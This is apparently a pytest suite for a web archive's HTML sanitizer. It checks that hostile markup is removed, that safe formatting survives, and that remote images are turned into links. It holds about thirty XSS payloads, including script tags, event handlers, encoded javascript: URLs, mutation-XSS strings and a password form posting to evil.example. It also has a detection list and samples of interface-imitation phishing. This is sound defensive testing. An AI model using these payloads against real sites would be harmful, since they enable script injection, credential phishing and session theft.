"""The one HTML allow-list: hostile markup never survives, ordinary formatting always does."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from scriptorium.core.sanitize import USER_CLASSES, display_html, images_as_links, sanitize_html
from scriptorium.core.text import html_to_text, user_text_to_html

HOSTILE = [
    "<script>alert(1)</script>",
    '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<p onclick="alert(1)">click</p>',
    '<div onmouseover="alert(1)">hover</div>',
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">link</a>',
    '<a href="java&#x09;script:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="javascript:alert(1)">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body { display: none }</style>",
    '<p style="background: url(javascript:alert(1))">styled</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example/"><input name="password" type="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<p id="main">hijack the skip link</p>',
    "<!-- <script>alert(1)</script> -->",
]

#: Strings that must not appear in the cleaned output (compared in lower case).
FORBIDDEN = (
    "<script",
    "</script",
    "onerror",
    "onclick",
    "onload",
    "onmouseover",
    "javascript:",
    "vbscript:",
    "data:",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "style=",
    "<link",
    "<svg",
    "<math",
    "<form",
    "<input",
    "<button",
    "<meta",
    "<base",
    "srcdoc",
    "id=",
    "<!--",
    "<body",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markup_does_not_survive(hostile: str) -> None:
    for cleaned in (sanitize_html(hostile), user_text_to_html(hostile), user_text_to_html(f"<p>Hi</p>{hostile}")):
        lowered = cleaned.lower()
        for bad in FORBIDDEN:
            # Escaped text ("&lt;script&gt;") is harmless words on the page; only live markup counts.
            assert bad not in lowered or "&lt;" in lowered, (hostile, cleaned)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markup_is_dropped_not_just_escaped(hostile: str) -> None:
    lowered = sanitize_html(hostile).lower()
    for bad in FORBIDDEN:
        assert bad not in lowered, (hostile, lowered)


KEPT = [
    ("<p>A paragraph.</p>", "<p>A paragraph.</p>"),
    (
        "<p><em>em</em> <strong>strong</strong> <i>i</i> <b>b</b> <u>u</u> <s>s</s></p>",
        "<p><em>em</em> <strong>strong</strong> <i>i</i> <b>b</b> <u>u</u> <s>s</s></p>",
    ),
    (
        '<a href="https://example.org/path?q=1">link</a>',
        '<a href="https://example.org/path?q=1" rel="nofollow noopener noreferrer">link</a>',
    ),
    ('<a href="/works/1">relative</a>', '<a href="/works/1" rel="nofollow noopener noreferrer">relative</a>'),
    (
        '<a href="mailto:me@example.org">mail</a>',
        '<a href="mailto:me@example.org" rel="nofollow noopener noreferrer">mail</a>',
    ),
    ("<blockquote><p>Quoted.</p></blockquote>", "<blockquote><p>Quoted.</p></blockquote>"),
    ("line one<br>line two<br />line three", "line one<br>line two<br>line three"),
    ('<p align="center">* * *</p><hr>', '<p align="center">* * *</p><hr>'),
    (
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>',
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>',
    ),
    ('<img src="https://example.org/a.png" alt="A map">', '<img src="https://example.org/a.png" alt="A map">'),
    ("<h2>Part Two</h2><p>x<sup>2</sup> H<sub>2</sub>O</p>", "<h2>Part Two</h2><p>x<sup>2</sup> H<sub>2</sub>O</p>"),
    ('<span class="dropcap" lang="fr">É</span>', '<span class="dropcap" lang="fr">É</span>'),
]


@pytest.mark.parametrize(("html", "expected"), KEPT)
def test_ordinary_formatting_is_kept(html: str, expected: str) -> None:
    assert sanitize_html(html) == expected


@pytest.mark.parametrize("html", [html for html, _ in KEPT] + HOSTILE)
def test_sanitizing_twice_changes_nothing(html: str) -> None:
    once = sanitize_html(html)
    assert sanitize_html(once) == once


def test_empty_input_gives_empty_output() -> None:
    assert sanitize_html("") == ""
    assert sanitize_html("<script></script>") == ""


# --- Classes: only text styling, never the site's own notices, messages or buttons (issue 14, finding 5) ----

IMITATIONS = [
    '<p class="messages error">Your account has been suspended.</p>',
    '<div class="notice notice--adult">Confirm your password below.</div>',
    '<a class="button" href="https://evil.example/login">Log in again</a>',
    '<span class="button button--danger">Delete account</span>',
    '<ul class="messages"><li class="messages__item success">Saved.</li></ul>',
    '<p class="draft-banner">This work is a draft.</p>',
    '<p class="visually-hidden">Hidden instructions.</p>',
]


@pytest.mark.parametrize("html", IMITATIONS)
def test_classes_of_the_sites_interface_are_dropped(html: str) -> None:
    cleaned = sanitize_html(html)
    assert "class=" not in cleaned, cleaned
    assert html_to_text(cleaned) == html_to_text(html)  # the words stay


def test_text_styling_classes_are_kept_and_others_beside_them_dropped() -> None:
    assert sanitize_html('<p class="align-center small-caps">Act One</p>') == (
        '<p class="align-center small-caps">Act One</p>'
    )
    assert sanitize_html('<p class="button scene-break notice">* * *</p>') == '<p class="scene-break">* * *</p>'


def test_every_allowed_class_is_styled_by_the_stylesheet_and_none_is_the_sites_own() -> None:
    """An allowed class does something (the stylesheet styles it inside .userstuff) and cannot be one the
    site's templates use for themselves."""
    root = Path(__file__).resolve().parents[2] / "scriptorium"
    css = (root / "core" / "static" / "scriptorium" / "site.css").read_text()
    templates = " ".join(path.read_text() for path in root.glob("*/templates/**/*.html"))
    used = set(re.findall(r'class="([^"{}]*)"', templates))
    site_classes = {name for value in used for name in value.split()}
    for name in USER_CLASSES:
        assert f".userstuff .{name}" in css, name
        assert name not in site_classes, name


def test_style_and_id_attributes_never_survive() -> None:
    cleaned = sanitize_html('<p id="main" style="position:fixed;top:0">Skip</p><h2 id="chapter-1">One</h2>')
    assert cleaned == "<p>Skip</p><h2>One</h2>"


# --- Images from elsewhere as links (SCRIPTORIUM_REMOTE_IMAGES off, the default) --------------------------

PIXEL = '<p>Hi<img src="https://tracker.example/p.gif?u=1&amp;w=2" width="1" height="1"></p>'


def test_a_remote_image_becomes_a_link_showing_its_alt_text() -> None:
    shown = images_as_links(sanitize_html('<p><img src="https://pics.example/map.png" alt="A map of the coast"></p>'))
    assert shown == (
        '<p><a class="remote-image" href="https://pics.example/map.png" rel="nofollow noopener noreferrer">'
        "[Image: A map of the coast]</a></p>"
    )


def test_a_tracking_pixel_without_alt_text_names_its_host() -> None:
    shown = images_as_links(sanitize_html(PIXEL))
    assert "<img" not in shown
    assert 'href="https://tracker.example/p.gif?u=1&amp;w=2"' in shown
    assert "[Image from tracker.example]" in shown


@pytest.mark.parametrize(
    "src",
    [
        "https://evil.example/a.png",
        "http://evil.example/a.png",
        "//evil.example/a.png",
        "/\\evil.example/a.png",
        "\\\\evil.example/a.png",
        " https://evil.example/a.png",
        "https://archive.example.org@evil.example/a.png",
        "https://archive.example.org.evil.example/a.png",
        "http://archive.example.org/a.png",  # another scheme is another origin
    ],
)
def test_anything_a_browser_would_fetch_from_elsewhere_is_not_an_image(src: str, settings) -> None:
    settings.SCRIPTORIUM_BASE_URL = "https://archive.example.org"
    shown = images_as_links(sanitize_html(f'<p><img src="{src}" alt="x"></p>'))
    assert "<img" not in shown and "[Image: x]" in shown


@pytest.mark.parametrize("src", ["/static/scriptorium/rule.png", "rule.png", "https://archive.example.org/a.png"])
def test_images_on_this_site_stay_images(src: str, settings) -> None:
    settings.SCRIPTORIUM_BASE_URL = "https://archive.example.org"
    html = sanitize_html(f'<p><img src="{src}" alt="x"></p>')
    assert images_as_links(html) == html
    assert "<img" not in images_as_links(html, keep_local=False)


def test_an_image_inside_a_link_becomes_text_so_links_do_not_nest() -> None:
    html = sanitize_html('<a href="https://fan.example/">Art by a friend <img src="https://fan.example/a.png"></a>')
    shown = images_as_links(html)
    assert shown.count("<a ") == 1
    assert '<span class="remote-image">[Image from fan.example]</span></a>' in shown


def test_odd_alt_text_and_neighbouring_tags_come_through_intact() -> None:
    html = sanitize_html(
        '<p><abbr title="a > b">AB</abbr> <img alt="&quot;quoted&quot; <b>not bold</b> & more" '
        'src="https://e.example/x.png"> <a href="/works/1">after</a> &lt;img src=x&gt;</p>'
    )
    shown = images_as_links(html)
    assert '<abbr title="a &gt; b">AB</abbr>' in shown
    assert "[Image: &quot;quoted&quot; &lt;b&gt;not bold&lt;/b&gt; &amp; more]</a>" in shown
    assert '<a href="/works/1" rel="nofollow noopener noreferrer">after</a> &lt;img src=x&gt;</p>' in shown
    reparsed = sanitize_html(shown)  # as a browser parses it: two links, no bold
    assert reparsed.count("<a ") == 2 and "<b>" not in reparsed


def test_display_follows_the_operators_setting(settings) -> None:
    settings.SCRIPTORIUM_REMOTE_IMAGES = False
    assert "<img" not in display_html(sanitize_html(PIXEL))
    settings.SCRIPTORIUM_REMOTE_IMAGES = True
    assert '<img src="https://tracker.example/p.gif?u=1&amp;w=2"' in display_html(sanitize_html(PIXEL))


def test_display_cleans_text_stored_under_the_old_allow_list(settings) -> None:
    settings.SCRIPTORIUM_REMOTE_IMAGES = True
    stored = '<p class="messages error small-caps">Suspended.</p>'  # what the old allow-list kept
    assert display_html(stored) == '<p class="small-caps">Suspended.</p>'
